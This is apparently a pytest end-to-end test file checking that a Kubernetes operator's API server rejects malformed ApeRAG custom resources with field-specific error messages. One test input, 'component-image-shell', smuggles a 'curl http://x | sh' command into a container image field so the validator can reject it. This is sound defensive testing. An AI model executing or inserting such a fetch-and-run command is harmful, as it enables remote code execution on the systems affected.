"""Invalid ApeRAGs are rejected by the API server with a message naming the field (no operator needed)."""

from __future__ import annotations

import json
from typing import Any

import pytest
from aperag_operator.builders.naming import max_name_length

from tests.e2e.conftest import apply_yaml
from tests.harness.cluster import Cluster

pytestmark = [pytest.mark.cluster]


def body(name: str, namespace: str, spec: dict[str, Any]) -> str:
    return json.dumps(
        {
            "apiVersion": "aperag.io/v1alpha1",
            "kind": "ApeRAG",
            "metadata": {"name": name, "namespace": namespace},
            "spec": spec,
        }
    )


V = {"version": "0.5.0"}

# (case id, spec, text the error must contain: the field's path and/or the rule's message)
INVALID: list[tuple[str, dict[str, Any], list[str]]] = [
    ("missing-version", {}, ["spec.version", "Required"]),
    (
        "wrong-type",
        {**V, "components": {"api": {"replicas": "two"}}},
        ["spec.components.api.replicas", "expected numeric"],
    ),
    (
        "negative-replicas",
        {**V, "components": {"worker": {"replicas": -1}}},
        ["spec.components.worker.replicas", "greater than or equal to 0"],
    ),
    (
        "beat-two-replicas",
        {**V, "components": {"beat": {"replicas": 2}}},
        ["spec.components.beat.replicas", "beat runs exactly one replica"],
    ),
    (
        "min-greater-than-max",
        {**V, "autoscaling": {"api": {"minReplicas": 5, "maxReplicas": 2}}},
        ["spec.autoscaling.api.minReplicas", "minReplicas must be <= maxReplicas"],
    ),
    (
        "worker-min-greater-than-max",
        {**V, "autoscaling": {"worker": {"enabled": True, "minReplicas": 8, "maxReplicas": 4}}},
        ["spec.autoscaling.worker.minReplicas", "minReplicas must be <= maxReplicas"],
    ),
    (
        "worker-fallback-above-max",
        {**V, "autoscaling": {"worker": {"maxReplicas": 4, "fallbackReplicas": 6}}},
        ["spec.autoscaling.worker.fallbackReplicas", "fallbackReplicas must be <= maxReplicas"],
    ),
    (
        "worker-negative-min",
        {**V, "autoscaling": {"worker": {"minReplicas": -1}}},
        ["spec.autoscaling.worker.minReplicas", "greater than or equal to 0"],
    ),
    (
        "api-min-zero",
        {**V, "autoscaling": {"api": {"minReplicas": 0}}},
        ["spec.autoscaling.api.minReplicas", "greater than or equal to 1"],
    ),
    (
        "worker-list-length-zero",
        {**V, "autoscaling": {"worker": {"listLength": 0}}},
        ["spec.autoscaling.worker.listLength", "greater than or equal to 1"],
    ),
    (
        "scale-down-percent-over-100",
        {**V, "autoscaling": {"api": {"scaleDown": {"percentPerPeriod": 150}}}},
        ["spec.autoscaling.api.scaleDown.percentPerPeriod", "less than or equal to 100"],
    ),
    (
        "queue-behind-a-url",
        {
            **V,
            "databases": {"redis": {"external": {"urlSecretRef": {"name": "r", "key": "url"}}}},
            "autoscaling": {"worker": {"enabled": True}},
        },
        ["spec.autoscaling.worker.enabled", "KEDA cannot read a connection URL"],
    ),
    (
        "worker-grace-period-too-short",
        {**V, "components": {"worker": {"terminationGracePeriodSeconds": 5}}},
        ["spec.components.worker.terminationGracePeriodSeconds", "greater than or equal to 30"],
    ),
    (
        "unknown-component",
        {**V, "components": {"scheduler": {"replicas": 1}}},
        ["spec.components.scheduler", "field not declared in schema"],
    ),
    (
        "unparsable-quantity",
        {**V, "components": {"api": {"resources": {"requests": {"cpu": "lots"}}}}},
        ["spec.components.api.resources.requests.cpu", "should match"],
    ),
    (
        "s3-without-settings",
        {**V, "objectStorage": {"type": "s3"}},
        ["spec.objectStorage.s3", "s3 settings are required when type is s3"],
    ),
    ("bad-enum", {**V, "objectStorage": {"type": "nfs"}}, ["spec.objectStorage.type", "Unsupported value"]),
    (
        "ingress-without-host",
        {**V, "ingress": {"enabled": True}},
        ["spec.ingress.host", "host is required when ingress is enabled"],
    ),
    (
        "env-value-and-valuefrom",
        {
            **V,
            "app": {"env": [{"name": "A", "value": "x", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]},
        },
        ["spec.app.env[0]", "value and valueFrom are mutually exclusive"],
    ),
    (
        "reserved-pod-label",
        {**V, "components": {"api": {"podLabels": {"app.kubernetes.io/name": "x"}}}},
        ["spec.components.api.podLabels", "app.kubernetes.io/* labels are set by the operator"],
    ),
    ("bad-version", {"version": "v1 beta"}, ["spec.version", "should match"]),
    # Values that used to pass admission and fail only when a child was applied (or ran kwok-only):
    ("tag-with-space", {**V, "image": {"tag": "0.5.0 beta"}}, ["spec.image.tag", "should match"]),
    (
        "repository-trailing-space",
        {**V, "image": {"repository": "ghcr.io/acme/aperag "}},
        ["spec.image.repository", "should match"],
    ),
    (
        "component-image-shell",
        {**V, "components": {"worker": {"image": "acme/aperag:1; curl http://x | sh"}}},
        ["spec.components.worker.image", "should match"],
    ),
    (
        "negative-cpu",
        {**V, "components": {"api": {"resources": {"requests": {"cpu": "-500m"}}}}},
        ["spec.components.api.resources.requests.cpu", "should match"],
    ),
    (
        "label-value-with-spaces",
        {**V, "components": {"api": {"podLabels": {"team": "search team"}}}},
        ["spec.components.api.podLabels.team", "should match"],
    ),
    (
        "bad-node-selector-key",
        {**V, "components": {"worker": {"nodeSelector": {"bad key!": "x"}}}},
        ["spec.components.worker.nodeSelector", "nodeSelector keys must be valid label keys"],
    ),
    (
        "malformed-affinity",
        {
            **V,
            "components": {
                "api": {
                    "affinity": {
                        "nodeAffinity": {
                            "requiredDuringSchedulingIgnoredDuringExecution": {
                                "nodeSelectorTerms": [{"matchExpressions": [{"key": "zone", "operator": "Maybe"}]}]
                            }
                        }
                    }
                }
            },
        },
        ["spec.components.api.affinity.nodeAffinity", 'Unsupported value: "Maybe"'],
    ),
    (
        "affinity-unknown-field",
        {**V, "components": {"api": {"affinity": {"nodeAfinity": {}}}}},
        ["spec.components.api.affinity.nodeAfinity", "field not declared in schema"],
    ),
    (
        "affinity-values-for-exists",
        {
            **V,
            "components": {
                "api": {
                    "affinity": {
                        "podAntiAffinity": {
                            "requiredDuringSchedulingIgnoredDuringExecution": [
                                {
                                    "topologyKey": "kubernetes.io/hostname",
                                    "labelSelector": {
                                        "matchExpressions": [{"key": "app", "operator": "Exists", "values": ["x"]}]
                                    },
                                }
                            ]
                        }
                    }
                }
            },
        },
        ["values must be non-empty for In and NotIn and empty for Exists"],
    ),
    (
        "mount-path-tmp",
        {**V, "objectStorage": {"local": {"mountPath": "/tmp"}}},
        ["spec.objectStorage.local.mountPath", "mountPath must not be /tmp"],
    ),
    (
        "mount-path-root",
        {**V, "objectStorage": {"local": {"mountPath": "/"}}},
        ["spec.objectStorage.local.mountPath", "should match"],
    ),
    (
        "pull-secret-name",
        {**V, "image": {"pullSecrets": ["Not_A_Name"]}},
        ["spec.image.pullSecrets[0]", "should match"],
    ),
    (
        "migration-timeout-too-short",
        {**V, "upgrade": {"migrationTimeoutSeconds": 5}},
        ["spec.upgrade.migrationTimeoutSeconds", "greater than or equal to 30"],
    ),
    (
        "history-limit-zero",
        {**V, "upgrade": {"historyLimit": 0}},
        ["spec.upgrade.historyLimit", "greater than or equal to 1"],
    ),
    (
        "migration-job-reserved-label",
        {**V, "upgrade": {"migrationJob": {"podLabels": {"app.kubernetes.io/component": "x"}}}},
        ["spec.upgrade.migrationJob.podLabels", "app.kubernetes.io/* labels are set by the operator"],
    ),
    (
        "migration-job-bad-label-value",
        {**V, "upgrade": {"migrationJob": {"podLabels": {"team": "not a value"}}}},
        ["spec.upgrade.migrationJob.podLabels.team", "should match"],
    ),
    (
        "migration-job-bad-annotation-key",
        {**V, "upgrade": {"migrationJob": {"podAnnotations": {"bad key": "x"}}}},
        ["spec.upgrade.migrationJob.podAnnotations", "annotation keys must be qualified names"],
    ),
]


@pytest.mark.parametrize("case,spec,expected", INVALID, ids=[c[0] for c in INVALID])
def test_invalid_resource_is_rejected(
    cluster: Cluster, aperag_crd: str, namespace: str, case: str, spec: dict[str, Any], expected: list[str]
) -> None:
    result = apply_yaml(cluster, body(f"bad-{case}", namespace, spec), check=False)
    assert result.returncode != 0, f"{case} was accepted"
    for text in expected:
        assert text in result.stderr, f"{case}: {text!r} not in {result.stderr!r}"


def test_too_long_name_is_rejected(cluster: Cluster, aperag_crd: str, namespace: str) -> None:
    limit = max_name_length()
    assert limit == 38  # 63 minus KubeBlocks' "-pg-postgresql-postgresql" Service suffix
    result = apply_yaml(cluster, body("x" * (limit + 1), namespace, V), check=False)
    assert result.returncode != 0 and f"metadata.name must be at most {limit} characters" in result.stderr
    assert "KubeBlocks Service of postgresql" in result.stderr
    apply_yaml(cluster, body("x" * limit, namespace, V))


def test_valid_minimal_resource_gets_defaults(cluster: Cluster, aperag_crd: str, namespace: str) -> None:
    apply_yaml(cluster, body("ok", namespace, V))
    obj = json.loads(cluster.kubectl("get", "-n", namespace, "aperag/ok", "-o", "json").stdout)
    spec = obj["spec"]
    assert spec["components"]["api"]["replicas"] == 2
    assert spec["components"]["beat"]["replicas"] == 1
    assert spec["objectStorage"]["type"] == "local"
    assert spec["objectStorage"]["local"]["size"] == "10Gi"
    assert spec["upgrade"] == {
        "runMigrations": True,
        "migrationTimeoutSeconds": 600,
        "progressDeadlineSeconds": 600,
        "backupBeforeUpgrade": False,
        "backupTimeoutSeconds": 3600,
        "rollbackOnFailure": True,
        "historyLimit": 10,
        "migrationJob": {},
    }
    explain = cluster.kubectl("explain", "aperag.spec.components.beat.replicas").stdout
    assert "two schedulers would run every task twice" in explain


def test_the_documents_volume_cannot_shrink(cluster: Cluster, aperag_crd: str, namespace: str) -> None:
    apply_yaml(cluster, body("vol", namespace, {**V, "objectStorage": {"local": {"size": "10Gi"}}}))
    result = apply_yaml(
        cluster, body("vol", namespace, {**V, "objectStorage": {"local": {"size": "5Gi"}}}), check=False
    )
    assert result.returncode != 0 and "spec.objectStorage.local.size" in result.stderr
    assert "size cannot shrink" in result.stderr
    apply_yaml(cluster, body("vol", namespace, {**V, "objectStorage": {"local": {"size": "20Gi"}}}))  # growing is fine
